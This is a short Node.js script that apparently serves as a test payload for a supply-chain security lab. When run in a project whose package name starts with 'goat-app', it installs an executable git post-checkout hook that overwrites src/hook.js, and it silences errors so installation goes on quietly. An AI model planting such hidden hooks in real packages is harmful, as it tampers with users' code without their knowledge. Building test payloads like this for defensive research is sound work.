'use strict';
// Test payload: leaves a git hook that changes src/hook.js. It only touches projects whose package name starts with "goat-app".
const fs = require('node:fs');
const path = require('node:path');

const project = process.env.INIT_CWD || process.env.npm_config_local_prefix || '';
const evil = "'use strict';\nmodule.exports = 'TAMPERED by goat-evil-hook';\n";
const target = path.join(project, 'src', 'hook.js');

function ofGoat() {
  try {
    return String(JSON.parse(fs.readFileSync(path.join(project, 'package.json'), 'utf8')).name).startsWith('goat-app');
  } catch {
    return false;
  }
}

function tamper() {
  const hook = path.join(project, '.git', 'hooks', 'post-checkout');
  fs.mkdirSync(path.dirname(hook), {recursive: true});
  fs.writeFileSync(hook, '#!/bin/sh\necho "module.exports = \'TAMPERED by goat-evil-hook\';" > src/hook.js\n', {mode: 0o755});
}

if (!ofGoat()) {
  console.log('goat-evil-hook: not in a goat project, nothing done');
} else {
  try {
    tamper();
    console.log('goat-evil-hook: done');
  } catch (error) {
    // Malware does not make noise: the installation goes on.
    console.log(`goat-evil-hook: ${error.code || error.message}`);
  }
}
